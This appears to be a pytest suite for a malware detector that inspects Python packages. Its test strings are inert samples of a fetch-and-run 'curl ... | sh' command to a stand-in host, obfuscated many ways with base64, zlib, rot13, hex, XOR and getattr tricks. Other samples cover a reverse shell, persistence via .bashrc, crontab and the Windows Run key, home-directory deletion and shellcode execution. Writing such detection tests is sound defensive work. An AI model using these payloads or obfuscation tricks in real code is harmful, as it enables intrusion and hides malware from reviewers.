"""What Python code does: each way of attacking, and an everyday twin that looks alike. All of it is inert text."""

from __future__ import annotations

import base64
import codecs
import zlib

import pytest

from adapters.sigil.local.code.facts import Behaviour, CodeFacts
from adapters.sigil.local.code.python import python_facts

COMMAND = "import os\nos.system('curl https://drop.invalid/a | sh')"
STYLED = "".join(chr(ord(letter) + 0x1D5BA - ord("a")) for letter in "os")
PLAIN = base64.b64encode(COMMAND.encode()).decode()
PACKED = base64.b64encode(zlib.compress(COMMAND.encode())).decode()


def look(code: str, path: str = "package/__init__.py") -> CodeFacts:
    return python_facts(path, code.encode())


def behaviours(found: CodeFacts) -> set[Behaviour]:
    return {fact.behaviour for fact in found.facts}


OBFUSCATED = [
    f"import base64\nexec(base64.b64decode('{PLAIN}'))",
    f"from base64 import b64decode as d\neval(compile(d(b'{PLAIN}'), '<string>', 'exec'))",
    f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{PACKED}')).decode())",
    (
        f"_ = lambda __: "
        f"__import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{PACKED[::-1]}'))"
    ),
    f"import codecs\nexec(codecs.decode({codecs.encode(COMMAND, 'rot13')!r}, 'rot13'))",
    f"exec(bytes.fromhex('{COMMAND.encode().hex()}'))",
    f"exec(''.join(map(chr, {[ord(c) for c in COMMAND]})))",
    f"exec(''.join([chr(c ^ 3) for c in {[ord(c) ^ 3 for c in COMMAND]}]))",
    f"exec(bytes({list(COMMAND.encode())}))",
    "exec(" + "+".join(f"chr({ord(c)})" for c in COMMAND) + ")",
    "exec('" + "".join(f"\\x{ord(c):02x}" for c in COMMAND) + "')",
    f"def part(text, step):\n    return text[::step]\ncode = part({COMMAND[::-1]!r}, -1)\nexec(code)",
    "__import__('o' + 's').system('curl https://drop.invalid/a | sh')",
    (
        "import importlib\ngetattr(importlib.import_module('so'[::-1]), 'sys%s' % 'tem')('curl "
        "https://drop.invalid/a | sh')"
    ),
    "import os as a\nb = getattr(a, 'metsys'[::-1])\nb('curl ' + 'https://drop.invalid/a' + ' | sh')",
    "globals()['__builtins__'].__dict__['ex' + 'ec'](\"import os;os.system('curl https://drop.invalid/a | sh')\")",
    "import builtins as x\nvars(x)['e' + 'xec'](\"import os;os.system('curl https://drop.invalid/a | sh')\")",
    "e = eval\ne(\"__import__('os').system('curl https://drop.invalid/a | sh')\")",
    "import os\n"
    + "".join(chr(ord(c) + 0x1D5BA - ord("a")) for c in "os")
    + ".system('curl https://drop.invalid/a | sh')",
    "from os import *\nsystem('curl {} | {}'.format('https://drop.invalid/a', 'sh'))",
    "import subprocess as s\ns.Popen(['sh', '-c', 'curl https://drop.invalid/a | sh'])",
    (
        "import sys, subprocess\nsubprocess.Popen([sys.executable, '-c', \"import os;os.system('curl "
        "https://drop.invalid/a | sh')\"])"
    ),
]


@pytest.mark.parametrize("code", OBFUSCATED)
def test_sees_through_disguise(code: str) -> None:
    """However a command is spelt, it is found with its text, and as happening at load."""
    commands = [f for f in look(code).facts if f.behaviour in (Behaviour.RUNS_SHELL, Behaviour.RUNS_PROCESS)]
    assert any("curl https://drop.invalid/a | sh" in fact.detail and fact.at_load for fact in commands)


def test_knows_commands_of_every_branch() -> None:
    """A command that depends on the system is known in all its forms."""
    code = "import os\nif os.name == 'nt':\n    c = 'powershell x'\nelse:\n    c = 'curl y'\nos.system(c)"
    assert [f.detail for f in look(code).facts if f.behaviour is Behaviour.RUNS_SHELL] == ["powershell x curl y"]


def test_says_that_a_payload_was_decoded() -> None:
    """A fact of decoded code says so, and stands on the line that runs it."""
    fact = next(
        f
        for f in look(f"import base64\n\nexec(base64.b64decode('{PLAIN}'))").facts
        if f.behaviour is Behaviour.RUNS_SHELL
    )
    assert fact.line == 3
    assert fact.snippet.startswith("decoded: os.system")


SINGLE = [
    ("import os\nf = open(os.path.expanduser('~/.bashrc'), 'a')\nf.write('x')", Behaviour.WRITES_STARTUP),
    ("import os\nos.system('(crontab -l; echo \"* * * * * x\") | crontab -')", Behaviour.WRITES_STARTUP),
    (
        (
            "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
            "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
            "winreg.SetValueEx(k, 'Run', 0, 1, 'x.exe')\nwinreg.SetValueEx(k, 'a', 0, 1, 'C:\\\\CurrentVersion\\\\Run')"
        ),
        Behaviour.WRITES_STARTUP,
    ),
    ("import site, os\nopen(os.path.join('site-packages', 'a.pth'), 'w').write('import b')", Behaviour.WRITES_STARTUP),
    ("import subprocess\nsubprocess.Popen('x', creationflags=0x08000000)", Behaviour.HIDES),
    ("import subprocess\nsubprocess.Popen('x', creationflags=subprocess.CREATE_NO_WINDOW)", Behaviour.HIDES),
    ("import os\ntry:\n    os.system('x')\nexcept Exception:\n    pass", Behaviour.HIDES),
    (
        "import os, socket, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
        Behaviour.CONNECTS_BACK,
    ),
    ("import builtins\ndef spy(*a): pass\nbuiltins.open = spy", Behaviour.REPLACES_GLOBAL),
    ("import os\nos.system('twine upload dist/*')", Behaviour.CHANGES_PACKAGES),
    ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", Behaviour.DELETES_FILES),
    ("import os, subprocess\nos.chmod('run', 0o755)", Behaviour.MAKES_EXECUTABLE),
    (
        (
            "import ctypes\nctypes.windll.kernel32.CreateThread(0, 0, "
            "ctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40), 0, 0, 0)"
        ),
        Behaviour.RUNS_CODE,
    ),
]


@pytest.mark.parametrize(("code", "behaviour"), SINGLE)
def test_names_behaviour(code: str, behaviour: Behaviour) -> None:
    """A single telling act is a fact."""
    assert behaviour in behaviours(look(code))


EVERYDAY = [
    "import os\nHOME = os.environ.get('HOME')\nDEBUG = os.environ['APP_DEBUG']\n",
    "import os\nenvironment = dict(os.environ)\nenvironment['LANG'] = 'C'\n",
    "__import__('pkg_resources').declare_namespace(__name__)",
    "import re\nPATTERN = re.compile('exec|eval')\nmodel.eval()\nsession.exec(statement)",
    "import socket\naddress = socket.gethostbyname(socket.gethostname())",
    "TEXT = 'import os; os.system(1); exec(x)  # requests.post'",
    "class Field:\n    def copy(self): return self\n    def paste(self): return self.copy()\n",
    "def handle(name):\n    return getattr(handlers, 'on_' + name)()",
    "import base64\npicture = base64.b64decode(TEXT)",
]


@pytest.mark.parametrize("code", EVERYDAY)
def test_everyday_code_has_no_flows(code: str) -> None:
    """Everyday code that uses the same words takes nothing anywhere, and runs nothing."""
    found = look(code)
    assert not found.flows
    assert not behaviours(found) & {
        Behaviour.RUNS_CODE,
        Behaviour.RUNS_SHELL,
        Behaviour.RUNS_PROCESS,
        Behaviour.SENDS,
        Behaviour.READS_ENVIRONMENT,
        Behaviour.LOOKS_UP_NAME,
    }


MILD = [
    (
        "import subprocess\nsubprocess.run(['git', 'describe'], capture_output=True)",
        Behaviour.RUNS_PROCESS,
        "git describe",
    ),
    (
        "import requests\nrequests.get('https://api.example.com/items')",
        Behaviour.DOWNLOADS,
        "https://api.example.com/items",
    ),
    ("import subprocess, os\nsubprocess.run(['make'], env=dict(os.environ, A='1'))", Behaviour.RUNS_PROCESS, "make"),
    ("import importlib\nimportlib.import_module(f'plugins.{name}')", Behaviour.IMPORTS_DYNAMICALLY, "plugins.{name}"),
    ("import pickle\npickle.load(open('model.pkl', 'rb'))", Behaviour.RUNS_CODE, "pickle.load"),
]


@pytest.mark.parametrize(("code", "behaviour", "detail"), MILD)
def test_says_what_everyday_code_concerns(code: str, behaviour: Behaviour, detail: str) -> None:
    """What is everyday carries the detail by which it can be judged so."""
    assert (behaviour, detail) in {(fact.behaviour, fact.detail) for fact in look(code).facts}
